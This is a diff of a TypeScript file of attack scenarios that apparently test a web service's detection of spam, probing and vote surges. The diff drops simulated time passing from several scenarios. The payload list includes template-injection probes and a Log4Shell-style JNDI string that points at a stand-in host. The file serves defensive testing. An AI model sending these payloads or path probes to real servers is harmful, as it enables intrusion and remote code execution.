@@ -6,7 +6,6 @@ import type { Scenario } from './scenario.ts'
 import { commonPaths } from './word-lists.ts'
 
 const raised = { limits: 'raised' } as const
-const lapse = { limits: 'raised', lapse: true } as const
 
 /** Every voter once, for the same film. */
 const votes = (name: string, addressAt: (i: number) => string): Scenario =>
@@ -19,11 +18,10 @@ const filmSpam = attack(
   async (field) => {
     const visitor = field.visitor(addressOf(21)).as(field.server.key())
     await keepOn(200, (i) => {
-      field.pass(1)
       return visitor.ask('/add_film', { method: 'POST', body: { name: `Buy cheap pills no ${i} https://pills.example/${i}` } })
     })
   },
-  { field: lapse },
+  { field: raised },
 )
 
 const cors = attack('origins: which are let in', ['cors-probing'], async (field) => {
@@ -91,46 +89,43 @@ const payloads: Readonly<Record<string, readonly string[]>> = {
   template: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '${jndi:ldap://evil.example/a}'],
 }
 
-/** By hand, one a minute, as a person with a browser and patience does. */
+/** As a person with a browser sends them; the bucket leaks one in ten minutes. */
 const byHand = (kind: string, rules: readonly string[]): Scenario =>
   attack(
-    `${kind}: by hand, one a minute`,
+    `${kind}: by hand, 40`,
     rules,
     async (field) => {
       const visitor = field.visitor(addressOf(30 + kind.length))
       const texts = payloads[kind] ?? []
       await keepOn(40, (i) => {
-        field.pass(60)
         const text = encodeURIComponent(texts[i % texts.length] ?? '').replaceAll('%25', '%')
         return visitor.ask(i % 2 === 0 ? `/?like=${text}` : `/v1/films/${text}`)
       })
     },
-    { field: lapse },
+    { field: raised },
   )
 
 const slowPaths = attack(
-  'paths: a list of 140, one a minute',
+  'paths: a list of 140, under no limit',
   ['path-probing', 'sensitive-files'],
   async (field) => {
     const visitor = field.visitor(addressOf(40))
     await keepOn(commonPaths.length, (i) => {
-      field.pass(60)
       return visitor.ask(`/${commonPaths[i]}`)
     })
   },
-  { field: lapse },
+  { field: raised },
 )
 
 /** Each of another network, each once: no client, and no network, does anything odd. */
 const surge = attack(
-  'votes: 500 addresses of as many networks, one film, a minute',
+  'votes: 500 addresses of as many networks, one film',
   ['vote-surge'],
   (field) =>
     keepOn(500, (i) => {
-      field.pass(0.12)
       return field.visitor(addressOf(3000 + i)).ask('/?like=7')
     }),
-  { field: lapse, within: { requests: 500, seconds: 60 } },
+  { field: raised, within: { requests: 500, seconds: 60 } },
 )
 
 const doors = attack('paths: the doors of other programs', ['admin-probing', 'honey-route'], (field) => {
@@ -156,11 +151,10 @@ const induced = attack(
     const fields = { 'Sec-Fetch-Site': 'cross-site', 'Sec-Fetch-Mode': 'no-cors' }
     const letters = 'abcdefghijklmnopqrstuvwxyz'
     return keepOn(60, (i) => {
-      field.pass(0.1)
       return visitor.ask(`/path-${letters[i % 26]}-${letters[Math.floor(i / 26)]}`, { fields })
     })
   },
-  { field: lapse },
+  { field: raised },
 )
 
 /** In a network of its own: what is no HTTP has no header that says where it comes from. */
